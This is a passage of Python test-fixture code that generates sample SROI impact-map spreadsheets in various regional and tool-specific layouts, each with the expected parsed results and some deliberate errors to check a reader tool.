        column("impact", "Stage 4", None, "Impact", LESS, form=two_decimals),
        *year_columns([f"Year {k}" for k in range(1, 6)], ("Stage 5", None), (None,), two_decimals),
    ]
    place = lay(sheet, case, columns, top=4)
    discount_rate(place, 2, place.index("year0") - 1, form=fine_percent)
    for row in range(place.last_row + 1, place.last_row + 6):
        for item in filter_columns():
            put(sheet, row, place.index(item.field), 0, percent)
        for name in ("impact", *(f"year{k}" for k in range(5))):
            put(sheet, row, place.index(name), 0, two_decimals)
    foot(place, npv="Net Present Value (PV minus the investment)", form=two_decimals, empty_rows=5)
    return sheet.parent, describe(
        place,
        {"sample": "sample size"},
        header_set=2,
        empty_rows={
            "first_row": place.last_row + 1,
            "last_row": place.last_row + 5,
            "show": "0% and 0.00, no stakeholder and no outcome: not outcomes",
        },
    )


def arts_columns(years: Sequence[str]) -> list[Column]:
    """Set 3: columns of the arts map, left to right."""
    much = "Quantity: How much change was there?"
    outcomes = "The Outcomes (what changes)"
    return [
        column("stakeholder", "Stage 1", "Stakeholders", None, WHO),
        column("number", "Stage 1", "Stakeholders", None, "Amount of stakeholders"),
        column("inputs", "Stage 2", "Inputs", None, "What do they invest?"),
        column("amount", "Stage 2", "Inputs", None, "What is the value of the inputs in currency (NT$)",
               form=taiwan_dollars),
        column("outputs", "Stage 2", "Output", None, "Quantifiable outcomes of project activities"),
        column("name", "Stage 3", outcomes, "Description", "How would the stakeholder describe the changes?"),
        column("indicator", "Stage 3", outcomes, "Indicator", "How would you measure it?"),
        column("source", "Stage 3", outcomes, "Source", WHERE_FROM),
        column("extra:share", "Stage 3", outcomes, much, "Percentage of changes", form=percent),
        column("quantity", "Stage 3", outcomes, much, "Quantity of changes", form=whole),
        column("duration", "Stage 3", outcomes, "Duration", "How long does it last after end of activity?"),
        column("proxy", "Stage 3", outcomes, "Financial Proxy", "What proxy would you use to value the change?"),
        column("value", "Stage 3", outcomes, "Value in currency (B)", "What is the value of the change?(NT$)",
               form=taiwan_dollars),
        column("proxy_source", "Stage 3", outcomes, "Source", WHERE_FROM),
        *filter_columns(("Stage 4", None)),
        column("impact", "Stage 5", None, "Impact (G)", LESS.replace("deadweight, ", "deadweight,"),
               form=taiwan_dollars),
        *year_columns(years, ("Stage 5", "Calculating Social Return"), (None,), taiwan_dollars),
    ]  # fmt: skip


@fixture("set3_arts_year_0_to_4.xlsx")
def set_3() -> tuple[Payload, dict[str, Any]]:
    """Header set 3: New Taiwan dollars, shown quantities rounded, a column headed Year 0 that is divided by (1+r)^1."""
    case = art_festival()
    sheet = new_sheet("Impact map 2019")
    sheet["A1"] = case.title
    place = lay(sheet, case, arts_columns([f"Year {k}" for k in range(5)]), top=4)
    first = place.index("year0")
    put(sheet, 3, first, "Discount rate%")
    put(sheet, 3, first + 1, case.rate, fine_percent)
    place.rate_cell = f"{get_column_letter(first + 1)}3"
    foot(place, total="Inputs", form=taiwan_dollars)
    put(sheet, place.last_row + 1, first - 2, "Total")
    return sheet.parent, describe(
        place,
        {"share": "share of the group, already in the quantity"},
        header_set=3,
        notes=["Quantities are shown without decimals but held with them", "Year 0 is divided by (1 + rate)^1"],
    )


@fixture("set4_baseball_ten_years.xlsx")
def set_4() -> tuple[Payload, dict[str, Any]]:
    """Header set 4: ten years, extra columns, filters in another order, a harm whose unit and total differ in sign."""
    case = baseball()
    case = replace(case, printed={("Injuries", "value"): 25778.0})
    sheet = new_sheet("工作表1")
    sheet["A1"] = "Chinatrust-style club Social Return on Investment(SROI)-The Impact Map (illustrative figures)"
    outcomes = "The Outcomes (what changes)"
    back = "Calculating Social Return"
    labels = ["1st year", "2nd year", "3rd year", *(f"{k}th year" for k in range(4, 11))]
    value_question = "What is the value of the change? (NT$)"
    columns = [
        column("stakeholder", "Stakeholders", None, WHO),
        column("extra:category", "Stakeholders", None, "Category"),
        column("number", "Stakeholders", None, "Number of the stakeholders"),
        column("number_again", "Stakeholders", None, "Number of the stakeholders"),
        column("inputs", "Inputs", None, "What do they invest?"),
        column("amount", "Inputs", None, "What is the value of the inputs in currency (NT$)", form=whole),
        column("name", outcomes, "Description", "How would the stakeholder describe the changes?"),
        column("indicator", outcomes, "Indicator", "How would you measure it?"),
        column("source", outcomes, "Source", WHERE_FROM),
        column("extra:sub", outcomes, "Stakeholder", None),
        column("quantity", outcomes, "Quantity", "How much change was there? number of changes", form=whole),
        column("duration", outcomes, "Duration", "How long does it last after end of activity?"),
        column("proxy", outcomes, "Financial Proxy", "What proxy would you use to value the change?"),
        column("value", outcomes, "Value in currency(unit)", value_question, form=dollars_text),
        column("total_value", outcomes, "Value in currency(total)", value_question, form=dollars_text),
        column("proxy_source", outcomes, "Source", WHERE_FROM),
        column("deadweight", None, "Deadweight%", DEADWEIGHT, form=percent),
        column("attribution", None, "Attribution%",
               f"{ATTRIBUTION} The changes belong to the league, excluding the club", form=percent),
        column("drop_off", None, "Drop off %", DROP_OFF, form=percent),
        column("displacement", None, "Displacement%", DISPLACEMENT, form=percent),
        column("impact", None, "Impact", "G=A*B*(1-c)*(1-e)*(1-f)", form=whole),
        *year_columns(labels, (back,), (None,), whole),
    ]  # fmt: skip
    place = lay(sheet, case, columns, top=3)
    discount_rate(place, 2, place.index("year0"), "Discount rate%", fine_percent)
    foot(place, npv=None, ratio="Social Return (Value per amount invested)", form=whole)
    row = next(line.row for line in place.lines if line.outcome and line.outcome.name == "Injuries")
    return sheet.parent, describe(
        place,
        {"category": "tag", "sub": "sub-group, the second column called Stakeholder"},
        header_set=4,
        repeated_headings={
            "Number of the stakeholders": ["size of the group", "the same number again"],
            "Stakeholder": ["stakeholder", "sub-group"],
            "Source": ["evidence for the quantity", "source of the financial proxy"],
            "Value in currency": ["value of one unit", "quantity times unit"],
        },
        wrong_rows=[
            {
                "row": row,
                "outcome": "Injuries",
                "cells": {f"{place.letter('value')}{row}": "$ 25,778"},
                "right": "-25778",
                "why": "The unit value is printed without its minus; total value, impact and year values are negative",
            }
        ],
        filter_order=["deadweight", "attribution", "drop_off", "displacement"],
    )


@fixture("set5_social_value_international.xlsx")
def set_5() -> tuple[Payload, dict[str, Any]]:
    """Header set 5: two map sheets and guidance; people and amount per person apart; a weight; Year 0 to Year 5."""
    return social_value_map(children_centre())


def international_columns(form: Form = pounds, years: int = 6) -> list[Column]:
    """Give the columns of the international value map; what the note does not name is recalled, not seen."""
    return [
        column("stakeholder", "Who and how many?", "Stakeholders",
               "Who will have an impact on us? Who will we have an impact on?"),
        column("number", "Who and how many?", "Stakeholders", "How many in group?"),
        column("inputs", "At what cost?", "Inputs", "What will they invest and how much (money, time)?"),
        column("amount", "At what cost?", "Inputs",
               "Financial value (for the total population for the accounting period)", form=form),
        column("outputs", "What changes?", "Outputs", "Summary of activity in numbers"),
        column("name", "What changes?", "Outcomes", "What is the change experienced by stakeholders?"),
        column("indicator", "How much?", "Indicator and source",
               "How would you measure it? Where did you get it from?"),
        column("quantity", "How much?", "Quantity (scale)", "Number of people experiencing described outcome"),
        column("extra:depth", "How much?", "Amount of change per stakeholder (depth)",
               "What is the average amount per person?"),
        column("duration", "How long?", "Duration of outcomes", "How long (in years) will it last for?"),
        column("start", "How long?", "Outcomes start",
               "Does it start in period of activity (1) or in the period after (2)"),
        column("extra:weight", "How valuable?", "Weighting", "Rate the outcome from 1 to 10"),
        column("proxy", "How valuable?", "Valuation approach (monetary)",
               "What proxy did you use to value the change?"),
        column("value", "How valuable?", "Monetary valuation", "What is the value per person?", form=form),
        column("deadweight", "How much caused by the activity?", "Deadweight %",
               "What will happen anyway?", form=percent),
        column("displacement", "How much caused by the activity?", "Displacement %",
               "What activity would be displaced?", form=percent),
        column("attribution", "How much caused by the activity?", "Attribution %",
               "Who else will contribute to the change?", form=percent),
        column("drop_off", "How much caused by the activity?", "Drop off %",
               "Does the outcome drop off in future years?", form=percent),
        column("impact", "Still material?", "Impact calculation",
               "Number of people times value, less deadweight, displacement and attribution", form=form),
        *year_columns([f"Year {k}" for k in range(years)], ("Calculating Social Return",), (None,), form),
    ]  # fmt: skip


def with_depth_and_weight(case: Case) -> Case:
    """Add the amount of change per person and a weight to every outcome; neither enters the impact."""
    groups = []
    for place, group in enumerate(case.groups):
        outcomes = [
            replace(outcome, extra={"depth": round(0.5 + 0.25 * (place + step), 2), "weight": 9 - place - step})
            for step, outcome in enumerate(group.outcomes)
        ]
        groups.append(replace(group, outcomes=tuple(outcomes)))
    return replace(case, groups=tuple(groups))


def social_value_map(case: Case) -> tuple[Payload, dict[str, Any]]:
    """Write the international workbook: guidance, the map, and a map without money that repeats the rows."""
    case = with_depth_and_weight(replace(case, first_exponent=0.0, year_count=6))
    sheet = new_sheet("SROI Value Map")
    workbook = sheet.parent
    guidance = workbook.create_sheet("Guidance Notes", 0)
    guidance["A1"] = "Guidance notes. Deadweight, displacement, attribution and drop off are explained below."
    sheet["A1"] = "SROI Value Map"
    sheet["A2"] = case.title
    place = lay(sheet, case, international_columns(), top=4)
    discount_rate(place, 2, place.index("year0"), form=lambda value: (value, "0.0%", f"{value:.1%}"))
    foot(place, ratio="Social Return (value per amount invested)")
    other = workbook.create_sheet("Value Map (non-SROI)")
    other["A1"] = "Value Map (non-SROI)"
    money_fields = {"proxy", "value", "impact", "amount"}
    bare = [c for c in international_columns() if c.field not in money_fields and not c.field.startswith("year")]
    lay(other, case, bare, top=4)
    return workbook, describe(
        place,
        {"depth": "amount of change per person, not in the impact", "weight": "weight, not in the impact"},
        header_set=5,
        headings="The accompanying note names the columns; their exact cells are recalled, not seen",
        other_sheets={
            "Value Map (non-SROI)": "the same outcomes without money: must not be added",
            "Guidance Notes": "text",
        },
        notes=["Year 0 is not discounted here"],
    )


@fixture("set6_report_tables.xlsx")
def set_6() -> tuple[Payload, dict[str, Any]]:
    """Header set 6: tables cut from a map for a report; impact is printed, proxies and deductions are not."""
    case = livelihoods()
    sheet = new_sheet("Table 4")
    sheet["A1"] = "Table 4: Outcomes and impact (illustrative figures)"
    samples = {"Work coaches handle difficult conversations better": "75/188 (40%)", "Move closer to work": "3/41 (7%)"}
    outcomes = "The Outcomes (What changes)"
    groups = tuple(
        replace(
            group,
            outcomes=tuple(replace(o, extra={"study": samples.get(o.name, "6/41 (15%)")}) for o in group.outcomes),
        )
        for group in case.groups
        if group.outcomes
    )
    case = replace(case, groups=groups)
    columns = [
        column("stakeholder", "Stakeholders", None, "Who will we have an effect on? Who will have an effect on us?"),
        column("outputs", "Outputs", None, "Summary of activity in numbers"),
        column("name", outcomes, "Description", "How would we describe the change?"),
        column("indicator", outcomes, "Indicator", None),
        column("extra:study", outcomes, None,
               "Quantity & percentage of outcomes in study sample: n/respondents (percentage)"),
        column("quantity", outcomes, None, "Quantity of outcomes applied to total number involved"),
        column("impact", None, None,
               "Impact (quantity times financial proxy, less deadweight, displacement and attribution)",
               form=money("£", 0)),
    ]  # fmt: skip
    place = lay(sheet, case, columns, top=3)
    place.printed_totals["impact"] = case.totals()["impact"]
    put(sheet, place.last_row + 1, 1, "Total")
    put(sheet, place.last_row + 1, place.index("impact"), case.totals()["impact"], money("£", 0))
    return sheet.parent, describe(
        place,
        {"study": "sample: n of respondents"},
        header_set=6,
        to_ask=["value of one unit, deductions, duration, inputs and rate are not on the sheet; only the impact is"],
    )


COST_HEADINGS = ("Estimated cost/saving", "Year", "Updated cost/saving")


@fixture("set7_unit_costs.xlsx")
def set_7() -> tuple[Payload, dict[str, Any]]:
    """Header set 7: a unit cost database, a list of prices and not a value map; four rows carry published figures."""
    workbook = Workbook()
    introduction = workbook.active
    introduction.title = "Introduction"
    introduction["A1"] = "Unit Cost Database (layout of version 1.4; labels invented, four published figures)"
    introduction["A3"] = "Licence: Creative Commons Attribution 4.0 International"
    workbook.create_sheet("Guidance")["A1"] = "Fiscal = costs or savings to the public sector"
    rows = {
        "Crime": ("CR1.0", 500, "2002/03", 673.23),
        "Health": ("HE1.0", 1800, "2009/10", 2014.98),
        "Housing": ("HO1.0", 6680, "2010/11", 7276.42),
        "Social Services": ("SS1.0", 51080, "2013/14", 52675.64),
    }
    prices = []
    for theme, (code, original, year, updated) in rows.items():
        sheet = workbook.create_sheet(theme)
        word = "Cost" if theme == "Crime" else "value"
        headings = ["Outcome category", "Outcome detail", "Cost code", "Cost / saving detail", "Unit"]
        headings += ["Agency bearing the cost / making the fiscal saving", None]
        for kind in ("Fiscal", "Economic", "Social"):
            headings += [f"{kind} {word}", None, None]
        headings += ["Original source", "RAG assessment", "Comment", "v.1.4 revisions", None]
        second = (
            [None] * 5
            + ["Level 1", "Level 2"]
            + list(COST_HEADINGS) * 3
            + [None] * 3
            + ["New / update", "Changes made"]
        )
        if theme == "Health":
            second = [
                text and text.replace("cost/saving", "cost/ saving") if text == COST_HEADINGS[2] else text
                for text in second
            ]
        sheet.append(headings)
        sheet.append(second)
        for first, last in ((6, 7), (8, 10), (11, 13), (14, 16), (20, 21)):
            sheet.merge_cells(None, 1, first, 1, last)
        label = f"{theme} (label invented)"
        sheet.append([label, None, code, label, "Per event", "Local authority", None, original, year,
                      updated, *[None] * 6,
                      "Published source", "Amber", None, "Update", None])  # fmt: skip
        prices.append({"sheet": theme, "row": 3, "code": code, "original": original, "year": year, "updated": updated})
    lookups = workbook.create_sheet("Lookups")
    for year, index in (("2002/03", 145.544126), ("2009/10", 175.061194), ("2010/11", 179.906888),
                        ("2013/14", 190.033434),
                        ("2015/16", 195.969699)):  # fmt: skip
        lookups.append([year, index])
    return workbook, {
        "kind": "price_list",
        "header_set": 7,
        "outcomes": [],
        "prices": prices,
        "told": "This is a list of unit costs, not a value map: it has no stakeholders, quantities or deductions. "
        "Its prices can be used as proxies.",
    }


# ---------------------------------------------------------------------------------------------------------------------
# Header set 8: other tools
# ---------------------------------------------------------------------------------------------------------------------


def form_sheet(sheet: Worksheet, pairs: Iterable[tuple[str | None, Any]], top: int = 1) -> None:
    """Write labels in column A and values in column B."""
    for row, (label, value) in enumerate(pairs, start=top):
        sheet.cell(row, 1, label)
        sheet.cell(row, 2, value)


@fixture("set8_hku_calculator_form.xlsx")
def hku() -> tuple[Payload, dict[str, Any]]:
    """Fields of the HKU calculator copied down a sheet: labels on the left, no table, no displacement."""
    sheet = new_sheet("Calculator")
    form_sheet(
        sheet,
        [
            ("What is the name of the initiative?", "After-school homework club (illustrative figures)"),
            ("Funding period", "12 months"),
            ("Total funding budget $", 480000),
            ("What is the target beneficiary?", "Primary school pupils"),
            ("How many target beneficiaries are reached?", 150),
            ("Social Outcome", "Better study habits"),
            ("Financial Proxy", "Price of a tutoring hour"),
            ("Proxy Amount ($)", 220),
            ("Number of Units per Target Beneficiary", 24),
            ("Reporting Period", "12 months"),
            ("Advanced:", None),
            ("Deadweight: %", 30),
            ("Attribution: %", 20),
            ("Discount rate: %", 3.5),
            ("Drop-off: %", 0),
        ],
    )
    return sheet.parent, {
        "kind": "form",
        "header_set": 8,
        "sheet": "Calculator",
        "inputs": [{"row": 3, "what": "Total funding budget $", "amount": 480000}],
        "outcomes": [
            {
                "row": 6,
                "stakeholder": "Primary school pupils",
                "outcome": "Better study habits",
                "quantity": 150 * 24,
                "quantity_factors": {"beneficiaries": 150, "units_per_beneficiary": 24},
                "value": 220,
                "deadweight": 0.30,
                "attribution": 0.20,
                "attribution_printed": "20",
                "drop_off": 0,
                "impact_if_caused_by_others": 150 * 24 * 220 * 0.7 * 0.8,
            }
        ],
        "discount_rate": {"share": 0.035, "cell": "B14"},
        "not_on_sheet": ["displacement", "duration", "impact"],
        "told": "This is a form, not a table: it has no heading row. Nothing is imported unless forms are read.",
        "to_ask": ["sense of attribution", "currency: $ only", "duration"],
    }


@fixture("set8_hact_value_calculator.xlsx")
def hact() -> tuple[Payload, dict[str, Any]]:
    """A calculator after HACT: deadweight by category of 15, 19 and 27%, the budget in a cell above, no attribution."""
    rows = {
        "Full-time employment": ("Training and employment", 14, 9800, 0.15),
        "Regular volunteering": ("Community and social", 40, 1620, 0.19),
        "Relief from low mood": ("Health", 22, 4250, 0.27),
    }
    outcomes = tuple(
        Outcome(name, people, value, deadweight, extra={"category": category})
        for name, (category, people, value, deadweight) in rows.items()
    )
    case = Case("Community investment (illustrative figures)", "GBP", (Group("Residents", None, (), None, outcomes),))
    sheet = new_sheet("Value Calculator")
    sheet["A1"] = case.title
    sheet["A2"], sheet["D2"] = "Total cost, year budget for intervention", 52000
    columns = [
        column("name", "Outcome"),
        column("extra:category", "Category"),
        column("value", "User Defined value per person", form=pounds),
        column("quantity", "Number of people"),
        column("total_value", "Gross value", form=pounds),
        column("deadweight", "Deadweight %", form=percent),
        column("impact", "Social impact", form=pounds),
    ]
    place = lay(sheet, case, columns, top=4)
    total = case.totals()["impact"]
    for step, (label, value) in enumerate(
        (("Overall social impact", total), ("Budget", 52000), ("Net benefit", total - 52000), ("£1 : ", total / 52000))
    ):
        put(sheet, place.last_row + 2 + step, 1, label)
        put(sheet, place.last_row + 2 + step, 7, value, two_decimals)
    place.printed_totals = {"impact": total, "inputs": 52000, "npv": total - 52000, "ratio": total / 52000}
    record = describe(
        place,
        {"category": "tag"},
        header_set=8,
        headings="Invented around the few words that were seen",
        to_ask=["no stakeholder column", "no duration: one year, no discounting"],
    )
    for found in record["outcomes"]:
        found["stakeholder"] = None
    record["inputs"] = [
        {"row": 2, "stakeholder": None, "what": "Total cost, year budget for intervention", "amount": 52000}
    ]
    return sheet.parent, record


@fixture("set8_social_value_engine.xlsx")
def social_value_engine() -> tuple[Payload, dict[str, Any]]:
    """An export after the Social Value Engine: leakage as a fifth filter, another order, no percent signs."""
    case = Case(
        "Village hall (illustrative figures)",
        "GBP",
        (
            Group("Residents", None, (("Grant", 18500),), None, (
                Outcome("Older people feel less lonely", 26, 1480, 0.20, 0.05, 0.15, 0.10, 2,
                        proxy="Befriending visits", proxy_source="Charity price list", indicator="Per person per year",
                        other_deductions={"leakage": 0.08}),
                Outcome("Young people have somewhere to go", 45, 310.5, 0.35, 0.0, 0.25, 0.0, 1,
                        proxy="Youth club fees", proxy_source="County survey", indicator="Per person per year",
                        other_deductions={"leakage": 0.12}),
            )),
        ),
        year_count=2,
    )  # fmt: skip
    sheet = new_sheet("Export")
    columns = [
        column("stakeholder", "Stakeholder"),
        column("inputs", "Investment"),
        column("amount", "Investment amount", form=two_decimals),
        column("name", "Outcome"),
        column("proxy", "Proxy: description of the value"),
        column("indicator", "Proxy: relevant unit"),
        column("proxy_source", "Proxy: source of the value"),
        column("quantity", "Units"),
        column("value", "Value per unit", form=two_decimals),
        column("duration", "Years"),
        column("other:leakage", "Leakage", form=percent),
        column("deadweight", "Deadweight", form=percent),
        column("attribution", "Attribution", form=percent),
        column("drop_off", "Drop-off", form=percent),
        column("displacement", "Displacement", form=percent),
        column("impact", "Net value", form=two_decimals),
    ]
    place = lay(sheet, case, columns, merge=False, stakeholder_on_every_row=True)
    return sheet.parent, describe(
        place,
        header_set=8,
        headings="Deflators are as seen, the other headings invented",
        notes=["Net value confirms that attribution is the share of others and that leakage is deducted"],
    )


@fixture("set8_programme_cba_tabs.xlsx")
def programme_cba() -> tuple[Payload, dict[str, Any]]:
    """A social programme template of several tabs: years and rate on MAIN, a costed work plan, no value map."""
    workbook = Workbook()
    main = workbook.active
    main.title = "MAIN"
    form_sheet(
        main, [("Base year", 2024), ("Start year", 2025), ("Duration (years)", 3), ("Discount rate", 0.05)], top=2
    )
    main.append([])
    for row in (["Sheet", "Data", "Source", "Notes"],
                ["1_Participant_Inputs", "Hours and wage", "Survey", "Opportunity cost"],
                ["2_Costed Work Plan", "Costs by year", "Budget", None],
                ["3_Social Benefits", "Benefits", "Study", None]):  # fmt: skip
        main.append(row)
    people = workbook.create_sheet("1_Participant_Inputs")
    for row in (
        ["Participants", 240],
        ["Hours lost per participant", 36],
        ["Wage per hour", 4.2],
        ["Opportunity cost", 36288],
    ):
        people.append(row)
    plan = workbook.create_sheet("2_Costed Work Plan")
    for row in (["Activity", "Year 1", "Year 2", "Year 3"], ["Trainers", 21000, 21000, 14000],
                ["Venue", 3200, 3200, 2100],
                ["Total", 24200, 24200, 16100]):  # fmt: skip
        plan.append(row)
    benefits = workbook.create_sheet("3_Social Benefits")
    for row in (["Benefit", "Year 1", "Year 2", "Year 3"], ["Higher earnings", 9000, 31000, 38000]):
        benefits.append(row)
    return workbook, {
        "kind": "other_tool",
        "header_set": 8,
        "outcomes": [],
        "on_sheet": {
            "start_year": 2025,
            "discount_rate": 0.05,
            "costs_by_year": [24200, 24200, 16100],
            "participants_time": 36288,
            "benefits_by_year": {"Higher earnings": [9000, 31000, 38000]},
        },
        "told": "No sheet holds a value map: no row has headings such as Outcome, Quantity and Deadweight.",
    }


@fixture("set8_ohio_calculator.xlsx")
def ohio() -> tuple[Payload, dict[str, Any]]:
    """Ohio University's tables: proxies, their values, and rows that hold a formula as text in names of variables."""
    workbook = Workbook()
    inputs = workbook.active
    inputs.title = "proxy_inputs"
    for row in (["id", "value", "type", "unit", "description"],
                ["jobs", 12, "number", "people", "People placed in jobs"],
                ["trees", 340, "number", "trees", "Trees planted"]):  # fmt: skip
        inputs.append(row)
    values = workbook.create_sheet("proxy_values")
    for row in (["id", "value", "unit", "description", "ref"],
                ["wage", 21500, "USD", "Yearly wage", "Labour statistics"],
                ["tree_value", 18.4, "USD", "Carbon and shade", "Forest service"]):  # fmt: skip
        values.append(row)
    rows = workbook.create_sheet("rows")
    for row in (["group", "stakeholders", "description", "value", "variables", "formula"],
                ["economic", "Jobseekers", "Wages earned", 258000, "jobs, wage", "jobs * wage"],
                ["environmental", "Neighbourhood", "Cleaner air", 6256, "trees, tree_value",
                 "trees * tree_value"]):  # fmt: skip
        rows.append(row)
    return workbook, {
        "kind": "other_tool",
        "header_set": 8,
        "outcomes": [
            {"sheet": "rows", "row": 2, "stakeholder": "Jobseekers", "outcome": "Wages earned", "quantity": 12,
             "value": 21500, "impact": 258000},
            {"sheet": "rows", "row": 3, "stakeholder": "Neighbourhood", "outcome": "Cleaner air", "quantity": 340,
             "value": 18.4, "impact": 6256},
        ],
        "not_on_sheet": ["deadweight", "displacement", "attribution", "drop_off", "duration", "inputs"],
        "told": "Quantities and values sit on other sheets and are joined by a formula in words: "
        "this is not a value map.",
    }  # fmt: skip


@fixture("set8_indonesian_ddat.xlsx")
def indonesian() -> tuple[Payload, dict[str, Any]]:
    """A corporate report in rupiah: gross and net by aspect and year, filters DW DS AT DO, compounded forward."""
    sheet = new_sheet("Tabel SROI")
    aspects = {
        "Ekonomi": (0.20, 0.05, 0.25, 0.10),
        "Sosial": (0.15, 0.0, 0.30, 0.15),
        "Lingkungan": (0.10, 0.0, 0.10, 0.05),
    }
    gross = {
        "Ekonomi": {2022: 412000000, 2023: 455000000},
        "Sosial": {2022: 96000000, 2023: 120500000},
        "Lingkungan": {2023: 38000000},
    }
    net_share = {aspect: math.prod(1 - share for share in shares) for aspect, shares in aspects.items()}
    sheet["A1"] = "Perhitungan SROI 2022-2023 (angka ilustrasi)"
    rows: list[list[Any]] = [["Aspek", "Tahun", "Gross (Rp)", "Adj DDAT", "Net (Rp)", "Status"]]
    outcomes = []
    for aspect, years in gross.items():
        for year, value in years.items():
            net = value * net_share[aspect]
            outcomes.append({
                "row": 4 + len(rows), "outcome": aspect, "year": year, "gross": value, "impact": net,
                "deadweight": aspects[aspect][0], "displacement": aspects[aspect][1], "attribution": aspects[aspect][2],
                "attribution_printed": f"{aspects[aspect][2]:.0%}", "drop_off_in_first_year": aspects[aspect][3],
            })  # fmt: skip
            rows.append([aspect, year, value, 1 - net_share[aspect], net, "Terverifikasi"])
    for row in [[], [], *rows, []]:
        sheet.append(row)
    filters = [["Aspek", "DW", "DS", "AT", "DO", "Net x", "Haircut"]]
    filters += [[a, *shares, net_share[a], 1 - net_share[a]] for a, shares in aspects.items()]
    invested, rate = {2022: 150000000, 2023: 165000000}, 0.0575
    table: list[list[Any]] = [["Tahun", "Investasi", "Gross", "Net", "Compound", "Net Compounded", "SROI"]]
    compounded_sum = 0.0
    for year, amount in invested.items():
        total = sum(years.get(year, 0) for years in gross.values())
        net = sum(years.get(year, 0) * net_share[aspect] for aspect, years in gross.items())
        factor = (1 + rate) ** (2023 - year)
        compounded_sum += net * factor
        table.append([year, amount, total, net, factor, net * factor, net * factor / amount])
    ratio = compounded_sum / sum(invested.values())
    table.append(["Total", sum(invested.values()), None, None, None, compounded_sum, ratio])
    for row in [*filters, [], *table]:
        sheet.append(row)
    for row in sheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, float):
                cell.number_format = "0%" if 0 < cell.value < 1 else "#,##0.00"
    return sheet.parent, {
        "kind": "other_tool",
        "header_set": 8,
        "currency": "IDR",
        "outcomes": outcomes,
        "printed_totals": {"inputs": sum(invested.values()), "total_pv": compounded_sum, "ratio": ratio},
        "inputs": [{"year": year, "amount": amount} for year, amount in invested.items()],
        "discount_rate": {"share": rate, "printed": False},
        "timing": {"outcomes": "compounded forward to 2023, not discounted"},
        "not_on_sheet": ["stakeholder", "quantity", "value", "duration"],
        "told": "Three tables on one sheet, none a value map: values are gross sums per aspect and year, drop-off (DO) "
        "is deducted in the first year, and past years are compounded forward.",
    }


@fixture("set8_thai_template.xlsx")
def thai() -> tuple[Payload, dict[str, Any]]:
    """A community template: one chain per row from input to net value, no quantity, no displacement, no duration."""
    case = Case(
        "Community kitchen (illustrative figures)",
        "THB",
        (
            Group("Households", None, (("Labour", 24000),), "60 meals a day", (
                Outcome("Eat better", 1, 180000, 0.20, 0, 0.30, extra={"activity": "Cooking together"}),
            )),
            Group("Farmers", None, (("Vegetables", 31000),), "2 tonnes sold", (
                Outcome("Sell at a fair price", 1, 96000, 0.35, 0, 0.10, extra={"activity": "Weekly market"}),
            )),
        ),
    )  # fmt: skip
    sheet = new_sheet("ตาราง SROI")
    columns = [
        column("stakeholder", "Stakeholder"),
        column("amount", "Input", form=whole),
        column("extra:activity", "Activity"),
        column("outputs", "Output"),
        column("name", "Outcome"),
        column("value", "Financial Proxy", form=whole),
        column("deadweight", "Deadweight", form=percent),
        column("attribution", "Attribution", form=percent),
        column("impact", "Net Value", form=whole),
    ]
    place = lay(sheet, case, columns)
    foot(place, form=whole)
    put(sheet, place.last_row + 2, 1, "SROI")
    ratio = case.totals()["impact"] / case.inputs()
    put(sheet, place.last_row + 2, place.index("impact"), ratio, two_decimals)
    place.printed_totals["ratio"] = ratio
    record = describe(
        place,
        header_set=8,
        notes=["Financial Proxy is the sum for everybody: the quantity is 1", "One year, not discounted"],
    )
    record["extra_columns"] = [{"heading": "Activity", "column": "C", "kind": "note"}]
    return sheet.parent, record


# ---------------------------------------------------------------------------------------------------------------------
# Variants of one map: what people do to a template
# ---------------------------------------------------------------------------------------------------------------------


def international_sheet(case: Case, columns: Sequence[Column] | None = None, **layout: Any) -> Place:
    """Lay a map with the international headings, discounted from year 1, and its totals."""
    sheet = new_sheet("SROI Value Map")
    sheet["A1"], sheet["A2"] = "SROI Value Map", case.title
    labels = [f"Year {k + 1}" for k in range(case.year_count)]
    if columns is None:
        columns = [c for c in international_columns() if not c.field.startswith(("extra:", "year"))]
        columns += year_columns(labels, ("Calculating Social Return",), (None,), pounds)
    place = lay(sheet, case, columns, top=4, **layout)
    if place.year_count():
        discount_rate(place, 2, place.index("year0"), form=lambda value: (value, "0.0%", f"{value:.1%}"))
        foot(place, ratio="SROI ratio")
    return place


def timing(first_exponent: float, told_by: str, **extra: Any) -> tuple[Payload, dict[str, Any]]:
    """Same map under another timing; headings say Year 1 to Year 5 whatever the timing is."""
    place = international_sheet(replace(children_centre(), first_exponent=first_exponent))
    return place.sheet.parent, describe(place, timing_told_by=told_by, **extra)


@fixture("timing_discounted_from_year_1.xlsx")
def timing_end() -> tuple[Payload, dict[str, Any]]:
    """First year divided by 1 + r, as the guide has it."""
    return timing(1.0, "row Present value of each year")


@fixture("timing_first_year_undiscounted.xlsx")
def timing_start() -> tuple[Payload, dict[str, Any]]:
    """First year not discounted though headed Year 1."""
    return timing(0.0, "row Present value of each year")


@fixture("timing_mid_year.xlsx")
def timing_mid() -> tuple[Payload, dict[str, Any]]:
    """Every year discounted from its middle."""
    return timing(0.5, "row Present value of each year")


@fixture("timing_told_by_total_only.xlsx")
def timing_total() -> tuple[Payload, dict[str, Any]]:
    """No row of present values; only the total tells that the first year is not discounted."""
    case = replace(children_centre(), first_exponent=0.0)
    sheet = new_sheet("SROI Value Map")
    columns = [c for c in international_columns() if not c.field.startswith(("extra:", "year"))]
    columns += year_columns([f"Year {k}" for k in range(1, 6)], ("Calculating Social Return",), (None,), pounds)
    place = lay(sheet, case, columns, top=3)
    discount_rate(place, 1, place.index("year0"), form=fine_percent)
    foot(place, present=None, npv=None, ratio="SROI", ratio_text=lambda number: f"£1 : £{number:.2f}")
    return sheet.parent, describe(
        place, timing_told_by="Total Present Value (PV)", ratio_cell="text such as £1 : £2.34"
    )


@fixture("live_formulas.xlsx")
def live() -> tuple[Payload, dict[str, Any]]:
    """Formulas with the results Excel stored beside them."""
    place, results = live_sheet()
    return with_stored_results(as_bytes(place.sheet.parent), results), describe(
        place,
        formulas=True,
        stored_results=True,
        notes=["Sheet as saved by a spreadsheet program: formula and last result"],
    )


@fixture("live_formulas_never_calculated.xlsx")
def live_without_results() -> tuple[Payload, dict[str, Any]]:
    """The same formulas written by a program that never calculated them: impact, years and totals have no value."""
    place, _ = live_sheet()
    return place.sheet.parent, describe(
        place,
        formulas=True,
        stored_results=False,
        told="The formulas in this workbook have no stored results. Open it in a spreadsheet program, save it and "
        "upload it again; until then impact, year values and totals cannot be compared.",
    )


def live_sheet() -> tuple[Place, dict[str, float]]:
    """Replace results by formulas on a map without delayed outcomes; return the results by cell."""
    base = children_centre()
